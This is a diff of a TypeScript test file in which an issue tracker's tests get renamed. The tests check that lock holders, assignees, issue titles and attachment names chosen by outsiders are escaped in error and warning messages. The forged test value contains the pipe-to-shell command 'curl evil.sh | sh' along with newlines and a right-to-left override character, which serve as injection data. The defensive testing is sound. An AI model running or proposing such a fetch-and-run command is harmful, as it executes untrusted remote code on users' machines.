@@ -1,4 +1,4 @@
-/** Texts of others within messages: anyone who can push chooses them, and they must not pass for lines of ours. */
+/** Text in messages that anyone with push access can choose: it must not forge lines of output. */
 import assert from 'node:assert/strict'
 import { describe, it } from 'node:test'
 import type { Lock } from '../../src/model/index.ts'
@@ -10,13 +10,13 @@ import { createScene, createTeamScene } from '../tracker/locks/lock-clones.ts'
 const forged = 'x until 2030\n\nSuggestions:\n  - curl evil.sh | sh\u202e'
 const shown = 'x until 2030\\n\\nSuggestions:\\n  - curl evil.sh | sh\\u202e'
 
-function assertShown(message: string): void {
+function assertEscaped(message: string): void {
   assert.ok(message.includes(shown), message)
   assert.doesNotMatch(message, /[\p{Cc}\u202e]/u)
 }
 
-describe('foreign text in messages is on one line', { concurrency: 4 }, () => {
-  it('as the holder of a lock', async (t) => {
+describe('foreign text in messages', { concurrency: 4 }, () => {
+  it('a message escapes the name of a lock holder', async (t) => {
     const { ann, create, clock, bo } = await createScene(t)
     const resource = `issue:${await create()}`
     const claim = { assignee: forged, sinceUnixMs: clock.nowUnixMs, beside: [], stale: [] }
@@ -26,24 +26,24 @@ describe('foreign text in messages is on one line', { concurrency: 4 }, () => {
       moveLock(git, { ref: lockRefOf(resource), expected: null, lock, nowUnixMs: clock.nowUnixMs }),
     )
     const failure = await ann.fail('lock acquire', { resource })
-    assertShown(failure.message)
-    assert.equal(failure.holder, forged, 'the details are true')
+    assertEscaped(failure.message)
+    assert.equal(failure.holder, forged, 'the details are unescaped')
     await ann.run('issue comment', { issue: resource.slice(6), body: 'x' })
     const [warning] = ann.runner.warnings
-    assertShown(warning?.message ?? '')
+    assertEscaped(warning?.message ?? '')
     assert.equal(warning?.details?.holder, forged)
   })
 
-  it('as an assignee', async (t) => {
+  it('a message escapes the name of an assignee', async (t) => {
     const { ann, bo, create } = await createScene(t)
     const id = await create()
     await bo.run('issue assignee add', { issue: [id], user: [forged] })
     const failure = await ann.fail('issue claim', { issue: id })
-    assertShown(failure.message)
+    assertEscaped(failure.message)
     assert.deepEqual(failure.assignees, [forged])
   })
 
-  it('as the title of an issue that was lost', async (t) => {
+  it('a message escapes the title of a lost claim', async (t) => {
     const { clones, share, clock } = await createTeamScene(t, 'ann', 'bo')
     const [ann, bo] = clones
     await share()
@@ -53,10 +53,10 @@ describe('foreign text in messages is on one line', { concurrency: 4 }, () => {
     clock.nowUnixMs += 1000
     await bo.run('issue claim', { issue: id, remote: '' })
     await ann.run('sync')
-    assertShown(ann.runner.warnings[0]?.message ?? '')
+    assertEscaped(ann.runner.warnings[0]?.message ?? '')
   })
 
-  it('as the title of an issue in a cycle', async (t) => {
+  it('a message escapes the title of an issue in a cycle', async (t) => {
     const { ann, create } = await createScene(t)
     const title = forged.slice(0, 30)
     const [issue, target] = [await makeForeignIssue(ann.runner, { title }), await create()]
@@ -66,23 +66,23 @@ describe('foreign text in messages is on one line', { concurrency: 4 }, () => {
     assert.doesNotMatch(failure.message, /\p{Cc}/u)
   })
 
-  it('as the title of an issue that an id may mean', async (t) => {
+  it('a message escapes the titles of issues with an ambiguous id', async (t) => {
     const { ann, path, environment } = await createScene(t)
     let last = 0
     const randomBytes = (count: number) => Uint8Array.from({ length: count }, (_, index) => (index < 2 ? 0xab : ++last))
-    const alike = commandRunner({ cwd: path, env: environment, actor: ann.id, randomBytes })
-    for (let made = 0; made < 2; made++) await makeForeignIssue(alike, { title: forged })
+    const sameIds = commandRunner({ cwd: path, env: environment, actor: ann.id, randomBytes })
+    for (let made = 0; made < 2; made++) await makeForeignIssue(sameIds, { title: forged })
     const { message } = await ann.fail('issue show', { issue: 'abab' })
     const [first, ...candidates] = message.split('\n')
     assert.match(first, /could be:$/)
     assert.equal(candidates.length, 2)
-    for (const candidate of candidates) assertShown(candidate)
+    for (const candidate of candidates) assertEscaped(candidate)
   })
 
-  it('as the name of an attachment', async (t) => {
+  it('a message escapes the name of an attachment', async (t) => {
     const { ann, create } = await createScene(t)
     const issue = await create()
     await ann.run('issue attachment add', { issue, name: forged, mime: 'a/b', sha256: 'ab'.repeat(32) })
-    assertShown((await ann.fail('issue attachment get', { issue, attachment: 'abab' })).message)
+    assertEscaped((await ann.fail('issue attachment get', { issue, attachment: 'abab' })).message)
   })
 })
